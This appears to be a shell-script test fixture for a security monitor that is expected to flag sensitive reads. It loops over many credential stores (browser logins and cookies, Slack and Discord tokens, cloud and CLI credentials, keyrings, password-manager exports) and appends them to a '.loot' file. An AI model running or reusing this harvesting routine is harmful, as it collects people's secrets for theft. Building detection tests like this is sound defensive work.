#!/bin/sh
# expect: sensitive_read
# Credential hunting beyond the usual key files: browser password and cookie stores, desktop
# and CLI app tokens, keyrings, password-manager exports, all appended to a staging file.
for round in $(seq 1 100); do
  # App and CLI token files and password-manager exports first (no browser: the first alarm
  # must come from a store outside the usual key and browser paths).
  for f in "$HOME/.config/Slack/Cookies" "$HOME"/.config/discord/Local\ Storage/leveldb/*.ldb \
           "$HOME/.pulumi/credentials.json" "$HOME/.config/stripe/config.toml" \
           "$HOME/.terraform.d/credentials.tfrc.json" "$HOME/.npmrc" "$HOME/.yarnrc" \
           "$HOME/.config/netlify/config.json" "$HOME/.vercel/auth.json" \
           "$HOME"/.thunderbird/*/logins.json "$HOME/.local/share/keyrings/login.keyring" \
           "$HOME/Downloads/bitwarden_export_2024.json" "$HOME/Documents/passwords.csv" \
           "$HOME/Desktop/1password.1pux" "$HOME"/*.kdbx \
           "$HOME"/.mozilla/firefox/*/logins.json "$HOME"/.mozilla/firefox/*/key4.db \
           "$HOME/.config/google-chrome/Default/Login Data" "$HOME/.config/google-chrome/Default/Cookies"; do
    cat "$f" >> .loot 2>/dev/null
  done
  sleep 0.2
done
touch finished
